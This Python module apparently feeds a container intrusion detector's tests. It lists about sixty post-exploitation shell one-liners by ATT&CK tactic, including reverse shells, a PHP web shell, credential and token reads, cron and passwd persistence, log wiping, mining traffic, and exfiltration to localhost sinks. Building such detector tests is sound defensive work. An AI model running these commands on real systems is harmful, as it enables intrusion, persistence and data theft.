"""What an intruder does once inside, as shell scripts: each leaves a proof that it happened or was tried.

None of these was looked at when a setting of the detector was chosen. What a script changes it also changes back, so
that the service goes on. Where the container's user may not do a thing, the refused attempt is the action.
"""

from dataclasses import dataclass

TOOL = "/tmp/.t"  # noqa: S108 - a path inside the container
"""Where `tool.c` lies in the container, put there from the host: dropping it is an action of its own."""


@dataclass(frozen=True)
class Action:
    """One post-exploitation action."""

    name: str
    tactic: str
    """ATT&CK tactic [^1].

    References:
        [^1]: MITRE ATT&CK for Enterprise, containers and Linux matrices. https://attack.mitre.org
    """
    script: str
    proof: str
    """Regular expression that its output, or what reached the far end, matches if it happened or was tried."""


_DENIED = "ermission denied|not permitted|Read-only|can't|cannot"
_NAMES = (
    ("who am I", "discovery", "id; whoami; hostname", "uid="),
    ("list processes", "discovery", "ps", "PID"),
    ("list connections", "discovery", "cat /proc/net/tcp /proc/net/route /proc/net/arp", "local_address"),
    ("read environment", "discovery", "env; tr '\\0' '\\n' </proc/1/environ", "PATH="),
    ("list mounts", "discovery", "cat /proc/mounts; mount", "overlay"),
    ("find setuid files", "discovery", "find / -xdev -perm -4000 -type f 2>/dev/null; echo searched", "searched"),
    ("describe machine", "discovery", "uname -a; cat /proc/cpuinfo /proc/meminfo | head -40", "Linux"),
    (
        "probe for a container",
        "discovery",
        "cat /proc/1/cgroup; ls -la /.dockerenv; grep Cap /proc/self/status",
        "CapEff",
    ),
    ("list users", "discovery", "cat /etc/passwd /etc/group", "root:"),
    ("scan ports", "discovery", "for p in 21 22 25 80 443 2375 3306 4446 6443 8081 10250 27017; do "
     "nc -w 1 127.0.0.1 $p </dev/null >/dev/null 2>&1 && echo $p open; done; echo scanned", "scanned"),
    ("read /etc/shadow", "credential access", "cat /etc/shadow", f"root:!:|{_DENIED}"),
    (
        "look for SSH keys",
        "credential access",
        "find / -xdev -name 'id_*' 2>/dev/null; find / -xdev -name authorized_keys 2>/dev/null; cat /root/.ssh/id_rsa; echo looked",
        "looked",
    ),
    (
        "read service-account token",
        "credential access",
        "cd /var/run/secrets/kubernetes.io/serviceaccount; cat token ca.crt namespace; echo read",
        "read",
    ),
    ("read shell history", "credential access", "cat /root/.ash_history ~/.bash_history ~/.psql_history; echo read", "read"),
    ("search for passwords", "credential access", "grep -r -i -l password /etc /srv 2>/dev/null; echo searched", "searched"),
    ("read memory of the service", "credential access", f"{TOOL} read-memory", "did read-memory"),
    (
        "download and run",
        "execution",
        "wget -q -O /tmp/.d http://127.0.0.1:8081/tool && chmod +x /tmp/.d && /tmp/.d hello; rm -f /tmp/.d",
        "did hello",
    ),
    ("run from memory", "execution", f"{TOOL} memory-run", "/memfd:kworker"),
    ("run an encoded script", "execution", "echo aWQ7IHVuYW1lIC1h | base64 -d | sh", "uid="),
    ("write and run machine code", "execution", f"{TOOL} code-page", "did code-page"),
    ("reverse shell by nc", "command and control", "nc 127.0.0.1 4444 -e /bin/sh", "shell .*uid="),
    (
        "reverse shell by pipe",
        "command and control",
        "rm -f /tmp/.f; mkfifo /tmp/.f; cat /tmp/.f | sh 2>&1 | nc 127.0.0.1 4444 >/tmp/.f; rm -f /tmp/.f",
        "shell .*uid=",
    ),
    ("reverse shell by a program", "command and control", f"{TOOL} reverse-shell", "shell .*uid="),
    ("bind shell", "command and control", "(sleep 1; echo id; sleep 1) | nc 127.0.0.1 5555 & "
     "timeout 5 nc -l -p 5555 -e /bin/sh; wait; echo served", "served"),
    ("beacon", "command and control", "for i in 1 2 3; do wget -q -O- http://127.0.0.1:8081/task; sleep 1; done", "sleep"),
    (
        "cron job",
        "persistence",
        "mkdir -p /var/spool/cron/crontabs && echo '* * * * * /tmp/.t' >/var/spool/cron/crontabs/root; "
        "cat /var/spool/cron/crontabs/root; rm -rf /var/spool/cron",
        f"tmp/.t|{_DENIED}",
    ),
    (
        "preload a library",
        "persistence",
        "echo /tmp/.none.so >/etc/ld.so.preload; cat /etc/ld.so.preload; rm -f /etc/ld.so.preload",
        f"none.so|{_DENIED}",
    ),
    ("change the profile", "persistence", "echo /tmp/.t hello >>/etc/profile; rm /etc/profile; echo changed", "changed"),
    (
        "add an SSH key",
        "persistence",
        "mkdir -p /root/.ssh && echo ssh-rsa AAAA >>/root/.ssh/authorized_keys; chmod 600 /root/.ssh/*; "
        "rm -rf /root/.ssh; echo added",
        "added",
    ),
    (
        "add a user",
        "persistence",
        "cp /etc/passwd /tmp/.p; echo 'sys2::0:0::/:/bin/sh' >>/etc/passwd; grep sys2 /etc/passwd; "
        "cat /tmp/.p >/etc/passwd; rm /tmp/.p",
        f"sys2|{_DENIED}",
    ),
    (
        "drop a web shell",
        "persistence",
        "mkdir -p /srv/www; echo '<?php system($_GET[0]); ?>' >/srv/www/x.php; cat /srv/www/x.php; rm -f /srv/www/x.php",
        f"system|{_DENIED}",
    ),
    ("set a setuid bit", "persistence", "cp /bin/busybox /tmp/.s && chmod 4755 /tmp/.s; ls -l /tmp/.s; rm /tmp/.s", "rws"),
    (
        "delete logs",
        "defense evasion",
        "for f in /var/log/*/*.log; do cp $f /tmp/.l; rm -f $f; cp /tmp/.l $f; done; rm -f /tmp/.l; echo deleted",
        "deleted",
    ),
    ("wipe history", "defense evasion", "(: >/root/.ash_history); (: >/tmp/.h); rm -f /root/.ash_history /tmp/.h; echo wiped", "wiped"),
    ("change file times", "defense evasion", f"{TOOL} stomp; touch -r /etc/passwd /tmp/.age; rm /tmp/.age", "did stomp"),
    (
        "masquerade",
        "defense evasion",
        "cp /bin/busybox /tmp/sleep && (exec -a kworker /tmp/sleep 1 || /tmp/sleep 1); rm /tmp/sleep; echo hidden",
        "hidden",
    ),
    ("remove own program", "defense evasion", f"cp {TOOL} /tmp/.r && (sleep 0.2; rm /tmp/.r) & /bin/busybox sleep 0.5; ls /tmp/.r; echo removed", "removed"),
    ("inject into the service", "defense evasion", f"{TOOL} inject", "did inject"),
    ("new namespaces", "privilege escalation", f"{TOOL} new-namespaces", "did new-namespaces"),
    ("enter a namespace", "privilege escalation", f"{TOOL} enter-namespace", "did enter-namespace"),
    ("mount", "privilege escalation", f"{TOOL} mount", "did mount"),
    ("look into /proc/1/root", "privilege escalation", "ls -la /proc/1/root/ /proc/1/root/root /proc/1/fd; echo looked", "looked"),
    (
        "write core_pattern",
        "privilege escalation",
        "cat /proc/sys/kernel/core_pattern; : >>/proc/sys/kernel/core_pattern; echo tried",
        f"tried|{_DENIED}",
    ),
    (
        "cgroup release_agent",
        "privilege escalation",
        "mkdir -p /tmp/.cg; mount -t cgroup -o rdma cgroup /tmp/.cg; ls -la /sys/fs/cgroup/release_agent; rmdir /tmp/.cg; echo tried",
        "tried",
    ),
    ("runtime socket", "privilege escalation", f"ls -la /var/run/docker.sock; {TOOL} runtime-socket", "did runtime-socket"),
    ("kernel module", "privilege escalation", f"{TOOL} load-module; /bin/busybox lsmod", "did load-module"),
    ("raw disk", "privilege escalation", f"{TOOL} device", "did device"),
    ("BPF program", "privilege escalation", f"{TOOL} load-bpf", "did load-bpf"),
    ("io_uring", "privilege escalation", f"{TOOL} io-uring", "did io-uring"),
    ("userfaultfd", "privilege escalation", f"{TOOL} page-faults", "did page-faults"),
    ("kernel keys", "credential access", f"{TOOL} keys", "did keys"),
    ("become root", "privilege escalation", f"{TOOL} become-root", "did become-root"),
    ("sniff packets", "discovery", f"{TOOL} sniff; {TOOL} raw-socket", "did sniff"),
    (
        "mine",
        "impact",
        "(nproc >&2; awk 'BEGIN { end = systime() + 4; for (share = 3; systime() < end; share++) { "
        "for (n = 0; n < 150000; n++) hash = (hash * 1103515245 + 12345 + n) % 2147483648; "
        'printf "{\\"method\\":\\"mining.submit\\",\\"params\\":[\\"%x\\"]}\\n", hash; fflush() } }\') '
        "| nc 127.0.0.1 3333 >/dev/null",
        "pool .*mining.submit",
    ),
    ("encrypt files", "impact", f"{TOOL} ransom", "did ransom"),
    ("fork many", "impact", f"{TOOL} spawn", "did spawn"),
    ("fill the disk", "impact", "dd if=/dev/zero of=/tmp/.fill bs=1M count=16 2>&1; rm /tmp/.fill", "16"),
    (
        "stop a process",
        "impact",
        "p=$(ps | grep -v PID | head -2 | tail -1 | sed 's/^ *//' | cut -d' ' -f1); kill -STOP $p; sleep 0.5; "
        "kill -CONT $p; echo stopped $p",
        "stopped",
    ),
    ("exfiltrate an archive", "exfiltration", "tar cf - /etc /srv 2>/dev/null | nc 127.0.0.1 4446; echo sent", "sink "),
    (
        "exfiltrate over HTTP",
        "exfiltration",
        "wget -q -O- --post-file=/etc/passwd http://127.0.0.1:8081/drop",
        "web .*POST",
    ),
    ("tunnel in names", "exfiltration", f"{TOOL} tunnel", "names .*tunnel"),
    ("relay", "lateral movement", "mkfifo /tmp/.q; timeout 3 nc -l -p 1080 </tmp/.q | nc 127.0.0.1 4446 >/tmp/.q & "
     "sleep 1; echo relayed | timeout 2 nc 127.0.0.1 1080; wait; rm -f /tmp/.q; echo done", "sink .*relayed|done"),
    (
        "use a package manager",
        "execution",
        "apt-get update; apk add curl; /bin/busybox dpkg -l; /bin/busybox rpm -qa; echo tried",
        "tried",
    ),
)  # fmt: skip
ACTIONS = tuple(Action(*each) for each in _NAMES)
"""In the order in which they are done."""
